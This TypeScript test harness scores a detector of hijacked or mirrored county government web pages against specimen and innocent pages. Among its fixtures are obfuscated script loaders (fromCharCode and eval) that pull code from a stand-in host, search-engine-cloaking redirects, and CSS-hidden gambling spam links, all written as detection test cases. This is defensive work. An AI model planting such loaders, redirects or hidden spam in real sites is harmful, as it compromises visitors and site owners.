import type { HijackFamily } from '../../src/domain/index.ts';
import { extract } from '../../src/extract/extract.ts';
import { inputOf } from '../extract/input.ts';
import { injectedPage, mirrorPage, naiveTraditional } from '../practice/mirror.ts';
import { makeReport, renderPage, type PracticeReport } from '../practice/reports/index.ts';

/** A page with what is wrong with it, if anything. */
interface Specimen {
  readonly name: string;
  readonly html: string;
  readonly url: string;
  readonly family: HijackFamily | null;
  /** The text as it was, where the copy can be put right. */
  readonly original?: string;
}

const portal = 'www.qingxi.gov.cn';
const home = `http://${portal}/art/2024/1/20/art_12_3456.html`;
const away = 'http://www.gzyhmy.com/art/2024/1/20/art_12_3456.html';

const organs = [
  '清溪县人民政府',
  '清溪县体育局',
  '清溪县教育局',
  '清溪市彩票管理中心',
  '清溪镇人民政府',
  '清溪县卫生健康委员会',
];
const formats = ['F07', 'F21', 'F19', 'F14'] as const;

function reports(): readonly PracticeReport[] {
  return organs.map((publisher, index) =>
    makeReport({
      publisher,
      year: 2012 + index * 2,
      format: formats[index % formats.length] ?? 'F07',
      seed: 70 + index,
      characters: 1400,
    }),
  );
}

/** Changes the texts of a page and leaves its tags alone. */
function inTexts(html: string, change: (text: string) => string): string {
  return html
    .split(/(<script[\s\S]*?<\/script>|<style[\s\S]*?<\/style>|<[^>]*>)/)
    .map((part) => (part.startsWith('<') ? part : change(part)))
    .join('');
}

const hidden: readonly (readonly [name: string, html: string])[] = [
  [
    'display:none',
    '<div style="display:none"><a href="http://a.example/">澳门永利娱乐官网</a><a href="http://b.example/">彩票平台app下载</a></div>',
  ],
  ['far left', '<div style="position:absolute;left:-9999px"><a href="http://a.example/">开云体育官网入口</a></div>'],
  ['far up', '<div style="position:fixed;top:-2000px;"><a href="http://a.example/">百家乐在线投注</a></div>'],
  ['tiny marquee', '<marquee width="1" height="1"><a href="http://a.example/">时时彩投注平台</a></marquee>'],
  ['no height', '<div style="height:0;overflow:hidden"><a href="http://a.example/">乐鱼体育app下载</a></div>'],
  ['tiny type', '<p style="font-size:0px"><a href="http://a.example/">六合彩官网</a></p>'],
  [
    'white on white',
    '<div style="color:#fff;font-size:1px;line-height:1px"><a href="http://a.example/">必威体育官网</a><a href="http://b.example/">亚博app下载</a><a href="http://c.example/">真人娱乐城</a></div>',
  ],
  ['opacity', '<div style="opacity:0"><a href="http://a.example/">米乐体育官网</a></div>'],
];
const scripts: readonly (readonly [name: string, html: string])[] = [
  [
    'fromCharCode',
    `<script>document.write(String.fromCharCode(${Array.from('<script src="http://a.example/x.js"></script>', (each) => each.charCodeAt(0)).join(',')}));</script>`,
  ],
  [
    'referer redirect',
    '<script>if(document.referrer.indexOf("baidu")>0||document.referrer.indexOf("sogou.com")>0){window.location.href="http://a.example/"}</script>',
  ],
  [
    'spider redirect',
    '<script>var u=navigator.userAgent.toLowerCase();if(/baiduspider|sogou|360spider/.test(u)){location.replace("http://a.example/")}</script>',
  ],
  [
    'referer, regular expression',
    '<script>var s=document.referrer;if(/(baidu|so|sogou|google)\\./i.test(s)){self.location="http://a.example"}</script>',
  ],
  [
    'packed eval',
    `<script>eval(String.fromCharCode(${Array.from('document.write("<script src=http://a.example/x.js></script>")', (each) => each.charCodeAt(0)).join(',')}))</script>`,
  ],
];

/** What a careless kit makes of characters that have several Traditional forms. */
const careless: Readonly<Record<string, string>> = {
  制: '製',
  面: '麵',
  系: '係',
  咨: '谘',
  复: '複',
  里: '裏',
  布: '佈',
};

function carelessTraditional(text: string): string {
  return naiveTraditional(text.replaceAll(/[制面系咨复里布]/g, (character) => careless[character] ?? character));
}

function titled(html: string, title: string): string {
  return html.replace(/<title>[^<]*<\/title>/, `<title>${title}</title>`);
}

function entities(text: string): string {
  return Array.from(text, (character) => `&#${character.codePointAt(0)};`).join('');
}

function mirrors(): Specimen[] {
  return reports().flatMap((report, index): Specimen[] => {
    const page = renderPage(report, 'plain');
    const original = report.html.replaceAll(/<[^>]*>/g, '');
    const brand =
      ['bet365体育', '开云体育(中国)官方网站', '澳门永利娱乐', '乐鱼app官网', '365彩票平台', 'hth华体会'][index] ??
      '开云';
    const seeds = [index + 1, index + 31, index + 61];
    return [
      ...seeds.map((seed): Specimen => ({
        name: `A ${seed}`,
        html: mirrorPage(report, 'A', seed),
        url: away,
        family: 'A',
        original,
      })),
      {
        name: `A, title kept ${index}`,
        html: titled(mirrorPage(report, 'A', index + 91), report.title),
        url: away,
        family: 'A',
        original,
      },
      ...seeds.slice(0, 2).map((seed): Specimen => ({
        name: `B ${seed}`,
        html: mirrorPage(report, 'B', seed),
        url: away,
        family: 'B',
        original,
      })),
      {
        name: `B2 ${index}`,
        html: inTexts(page, (text) =>
          text.replaceAll('公', '公(gōng)').replaceAll('政', '政(zhèng)').replaceAll('务', '务(wù)'),
        ),
        url: away,
        family: 'B',
        original,
      },
      {
        name: `B nested ${index}`,
        html: inTexts(page, (text) =>
          text
            .replaceAll('政府', '政(zheng)(zheng)府(fu)(fu)')
            .replaceAll('办公室', '办公(gong室(shi))')
            .replaceAll('信息', '信(xin)息(xi)'),
        ),
        url: away,
        family: 'B',
        original,
      },
      { name: `C ${index}`, html: inTexts(page, naiveTraditional), url: away, family: 'C', original },
      { name: `C, own host ${index}`, html: inTexts(page, carelessTraditional), url: home, family: 'C', original },
      {
        name: `D organ ${index}`,
        html: inTexts(page, (text) => text.replaceAll(report.publisher, brand)),
        url: away,
        family: 'D',
      },
      {
        name: `D unknown ${index}`,
        html: inTexts(page, (text) =>
          text.replaceAll(
            report.publisher,
            ['金凤凰app', '新豪天地官网', 'vns889', '大丰收在线登录', '聚福(中国)', '长风电竞'][index] ?? 'x88',
          ),
        ),
        url: away,
        family: 'D',
      },
      {
        name: `D place ${index}`,
        html: inTexts(page, (text) => text.replaceAll('清溪', brand)),
        url: away,
        family: 'D',
      },
      {
        name: `E ${index}`,
        html: page.replace(
          '</body>',
          `<p>政府网站网址：http://www.gzyhmy.com/，联系邮箱：qxxzf@qingxi.gov.cn，电话：0533-2180001</p></body>`,
        ),
        url: away,
        family: 'E',
      },
      ...hidden.map(([name, html]): Specimen => ({
        name: `F ${name} ${index}`,
        html: page.replace('</body>', `${html}</body>`),
        url: home,
        family: 'F',
      })),
      ...scripts.map(([name, html]): Specimen => ({
        name: `F ${name} ${index}`,
        html: page.replace('<head>', `<head>${html}`),
        url: home,
        family: 'F',
      })),
      { name: `F injected ${index}`, html: injectedPage(page), url: home, family: 'F' },
      {
        name: `F title ${index}`,
        html: titled(page, `${brand}_${brand}登录_${brand}app下载-${brand}`),
        url: home,
        family: 'F',
      },
      {
        name: `F entity title ${index}`,
        html: titled(page, entities(`真人百家乐_${brand}在线投注`)),
        url: home,
        family: 'F',
      },
    ];
  });
}

/** Pages that come near to a copy and are none. */
function innocents(): Specimen[] {
  return reports().flatMap((report, index): Specimen[] => {
    const page = renderPage(report, index % 2 === 0 ? 'trs' : 'jcms');
    const add = (html: string): string => page.replace('</body>', `${html}</body>`);
    const into = (sentence: string): string => page.replace('</p>', `</p><p>${sentence}</p>`);
    return [
      { name: `clean ${index}`, html: page, url: home, family: null },
      {
        name: `abbreviations ${index}`,
        html: into(
          '细颗粒物(PM2.5)浓度下降，亚太经合组织(APEC)会议保障，无障碍(app)、政务服务(app)，圳(zhèn)字读音，甪(lù)直镇。',
        ),
        url: home,
        family: null,
      },
      {
        name: `crackdown ${index}`,
        html: into(
          '公安机关严厉打击网络赌博、“六合彩”、电信诈骗和开设赌场犯罪，查处时时彩案件3起，捣毁百家乐窝点1个。',
        ),
        url: home,
        family: null,
      },
      {
        name: `sports ${index}`,
        html: into(
          '县体育局公开全民健身场地信息，体育彩票公益金使用情况，福利彩票销售网点，体育中心、体育馆免费开放，体育app试运行。',
        ),
        url: home,
        family: null,
      },
      {
        name: `hidden tab ${index}`,
        html: add('<div style="display:none" id="wx"><p>扫一扫关注微信公众号</p><a href="/en">English</a></div>'),
        url: home,
        family: null,
      },
      {
        name: `hidden counter ${index}`,
        html: add('<div style="position:absolute;left:-9999px"><a href="#main">跳到主要内容</a></div>'),
        url: home,
        family: null,
      },
      {
        name: `share script ${index}`,
        html: add(
          '<script>var r=document.referrer;if(r.indexOf("baidu")>-1){_hmt.push(["_trackEvent","from","baidu"]);}</script>',
        ),
        url: home,
        family: null,
      },
      {
        name: `mobile redirect ${index}`,
        html: add(
          '<script>uaredirect("http://m.qingxi.gov.cn/");if(/Android|iPhone/i.test(navigator.userAgent)){location.href="/wap/"}</script>',
        ),
        url: home,
        family: null,
      },
      {
        name: `coded mail ${index}`,
        html: add(
          '<script>document.write(String.fromCharCode(113,120,120,122,102,64,113,105,110,103,120,105,46,103,111,118,46,99,110))</script>',
        ),
        url: home,
        family: null,
      },
      {
        name: `links ${index}`,
        html: add(
          '<div><a href="http://www.gov.cn">中国政府网</a><a href="http://www.sport.gov.cn">国家体育总局</a><a href="http://www.lottery.gov.cn">中国体育彩票</a></div>',
        ),
        url: home,
        family: null,
      },
      {
        name: `site's own words ${index}`,
        html: titled(page, `清溪县政府官方网站-${report.title}`).replace(
          '<body>',
          '<body><p>登录 注册 手机版 政府信息公开年报</p><p>清溪政务app 2023年政府信息公开年报</p><p>县政府网站在线访谈2023年政府信息公开工作年度报告解读</p>',
        ),
        url: home,
        family: null,
      },
      { name: `sister host ${index}`, html: page, url: 'http://xxgk.qingxi.gov.cn/art/1.html', family: null },
      {
        name: `declared twin ${index}`,
        html: inTexts(page, naiveTraditional).replace(
          '<head>',
          '<head><meta http-equiv="Content-Language" content="zh-TW"><meta name="language" content="zh-hant">',
        ),
        url: `http://${portal}/big5/art/2024/1.html`,
        family: null,
      },
      {
        name: `long title ${index}`,
        html: titled(page, `${report.title}_政府信息公开年报_政府信息公开_清溪县人民政府_政务公开`),
        url: home,
        family: null,
      },
      {
        name: `a few Traditional characters ${index}`,
        html: into('公開地點設於“榮寶齋”舊址，匾額題為“為人民服務”。'),
        url: home,
        family: null,
      },
    ];
  });
}

export interface IntegrityEvaluation {
  readonly specimens: number;
  /** Copies told as such, by family. */
  readonly recall: Readonly<Record<string, number>>;
  readonly missed: readonly string[];
  /** Genuine pages told as mirrored or hijacked. */
  readonly accused: readonly string[];
  /** Genuine pages told as suspect. */
  readonly doubted: readonly string[];
  /** Characters of the restorable copies that came back as they were. */
  readonly restored: number;
  readonly badlyRestored: readonly string[];
}

const han = /[^\u3400-\u9fff0-9]/g;

/** Character 2-grams of the original that stand in the restored text. */
function share(restored: string, original: string): number {
  const text = restored.replaceAll(han, '');
  const wanted = original.replaceAll(han, '');
  const grams = new Set(Array.from({ length: Math.max(0, text.length - 3) }, (_, at) => text.slice(at, at + 4)));
  let found = 0;
  let all = 0;
  for (let at = 0; at + 4 <= wanted.length; at += 1) {
    all += 1;
    if (grams.has(wanted.slice(at, at + 4))) found += 1;
  }
  return all === 0 ? 1 : found / all;
}

/** Measures which copies are told, which genuine pages are accused, and how much comes back. */
export async function evaluateIntegrity(): Promise<IntegrityEvaluation> {
  const totals = new Map<string, { all: number; told: number }>();
  const missed: string[] = [];
  const accused: string[] = [];
  const doubted: string[] = [];
  const shares: number[] = [];
  const badlyRestored: string[] = [];
  const specimens = [...mirrors(), ...innocents()];
  for (const { name, html, url, family, original } of specimens) {
    const found = await extract(inputOf(html, { url, portalHosts: [portal] }));
    const { state, families } = found.integrity;
    if (family === null) {
      if (state === 'mirror' || state === 'hijacked') accused.push(`${name}: ${state} ${families.join()}`);
      else if (state === 'suspect') doubted.push(`${name}: ${found.integrity.signals.map(({ id }) => id).join()}`);
      continue;
    }
    const count = totals.get(family) ?? { all: 0, told: 0 };
    count.all += 1;
    if (families.includes(family)) count.told += 1;
    else missed.push(`${name}: ${state} ${families.join()} ${found.integrity.signals.map(({ id }) => id).join()}`);
    totals.set(family, count);
    if (original === undefined) continue;
    const back = share(found.text, original);
    shares.push(back);
    if (back < 0.999 || /[(（][a-zāáǎàōóǒòēéěèīíǐìūúǔùǖǘǚǜü]+[)）]|\ufffd/.test(found.text))
      badlyRestored.push(`${name}: ${back.toFixed(4)}`);
  }
  return {
    specimens: specimens.length,
    recall: Object.fromEntries([...totals].map(([family, { all, told }]) => [family, told / all])),
    missed,
    accused,
    doubted,
    restored: shares.reduce((sum, each) => sum + each, 0) / Math.max(shares.length, 1),
    badlyRestored,
  };
}
